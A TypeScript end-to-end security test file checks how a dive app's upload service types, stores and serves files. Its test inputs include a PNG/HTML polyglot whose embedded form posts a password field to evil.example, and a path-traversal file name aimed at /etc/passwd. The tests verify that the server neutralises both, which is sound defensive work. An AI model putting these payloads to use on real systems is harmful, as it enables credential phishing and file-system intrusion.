import { randomUUID } from 'node:crypto';
import type pg from 'pg';
import { LocalDiskStore, StorageService } from '@app/storage';
import { bearer, type Diver, type TestApi } from '../support/api.js';
import { PNG, logbookFields } from '../support/fixtures.js';
import { LOGBOOKS, path, PHOTOS, requestsTo, startSecurityWorld } from '../support/security.js';

/** PNG magic bytes, then a page: a valid image by content, dangerous if ever served as HTML. */
const POLYGLOT = Buffer.concat([PNG, Buffer.from('<html><form action="https://evil.example/"><input name="pw"></form>')]);
/** Enough of a WebP for detection by content (RIFF….WEBP). */
const WEBP = Buffer.concat([Buffer.from('RIFF\x1a\0\0\0WEBPVP8 '), Buffer.alloc(14)]);

/**
 * How uploads are typed and where they land. Already covered, not repeated here: logbooks.e2e-spec.ts
 * (a non-image named .png → 400, an oversize dive_image → 413, a file in an undeclared field → 400, an
 * anonymous upload refused before the body is read) and photos.e2e-spec.ts (a non-image photo → 400,
 * the presign type allow-list, a raw image to any other route → 415, forged, tampered, wrong-type and
 * reused signed URLs → 403, spoofed content on a signed PUT → 400, an oversize signed PUT → 413).
 */
describe('security: uploads (e2e)', () => {
  let api: TestApi;
  let db: pg.Client;
  let alice: Diver;
  let bob: Diver;
  let close: () => Promise<void>;
  const { multipart, presign, putFile } = requestsTo(() => api);

  beforeAll(async () => {
    ({ api, db, alice, bob, close } = await startSecurityWorld());
  });
  afterAll(() => close?.());

  it('stores and serves a presigned upload as the signed type, whatever the client called the file', async () => {
    const upload = await presign(alice, 'invoice.html');
    expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[0-9a-f]{32}_invoice\\.png$`));
    await putFile(upload.path, POLYGLOT).expect(200);
    const served = await api.http().get(path(upload.fileUrl)).buffer(true).expect(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain('sandbox');
  });

  it("keeps a file name from climbing out of the caller's upload folder", async () => {
    const upload = await presign(alice, `../../${bob.id}/../../../etc/passwd.png`);
    // One segment of safe characters in the caller's folder ("a_.._b" is a name, not a step up).
    expect(upload.path).toMatch(new RegExp(`^/api/uploads/${alice.id}/[0-9a-f]{32}_[A-Za-z0-9_.-]+\\?`));
    await putFile(upload.path).expect(200);
    expect(path(upload.fileUrl)).toMatch(new RegExp(`^/media/uploads/${alice.id}/[^/]+$`));
    await api.http().get(path(upload.fileUrl)).expect(200);
  });

  it('refuses a signed upload URL past its expiry before reading the body', async () => {
    // A URL our own key signed, already an hour stale.
    const stale = new LocalDiskStore({
      ...api.app.get(StorageService).env,
      UPLOAD_URL_TTL_SECONDS: -3600,
    });
    const key = `uploads/${alice.id}/${randomUUID().replaceAll('-', '')}_late.png`;
    const url = new URL(await stale.presignPut('http://x', key, 'image/png'));
    const res = await putFile(`${url.pathname}${url.search}`);
    expect(res.status).toBe(403);
    expect(res.body).toEqual({ detail: 'Upload URL invalid or expired.' });
    await api.http().get(`/media/${key}`).expect(404);
  });

  it('takes only what Fishial reads as a photo, one file per field, within the size limit; nothing stored otherwise', async () => {
    const count = async (table: 'photos' | 'logbooks') =>
      Number((await db.query(`SELECT count(*) FROM ${table} WHERE user_id = $1`, [alice.id])).rows[0].count);
    const before = {
      photos: await count('photos'),
      logbooks: await count('logbooks'),
    };
    const photo = () => api.http().post(PHOTOS).set(bearer(alice)).field('title', 't');
    // WebP is a fine dive image but not a Fishial type.
    const webp = await photo().attach('image', WEBP, 'fish.png');
    const twice = await photo().attach('image', PNG, 'a.png').attach('image', PNG, 'b.png');
    const big = await photo().attach('image', Buffer.concat([PNG, Buffer.alloc(8_000)]), 'big.png');
    const doubled = await multipart('post', LOGBOOKS, logbookFields(), 'dive_image')(bearer(alice)).attach('dive_image', PNG, 'b.png');
    expect([webp, twice, big, doubled].map((r) => r.status)).toEqual([400, 400, 413, 400]);
    expect([webp.body.image, twice.body.image, big.body.detail, doubled.body.dive_image].every((m) => m?.length > 0)).toBe(true);
    expect({
      photos: await count('photos'),
      logbooks: await count('logbooks'),
    }).toEqual(before);
    // The same WebP is a valid dive image: the photo refusal above was about the type alone.
    await multipart('post', LOGBOOKS, logbookFields())(bearer(alice)).attach('dive_image', WEBP, 'dive.webp').expect(201);
    console.log(
      'uploads: 7 misnamed, traversing, stale, off-type, doubled or oversize uploads refused or neutralised, 0 stored by a refusal',
    );
  });
});
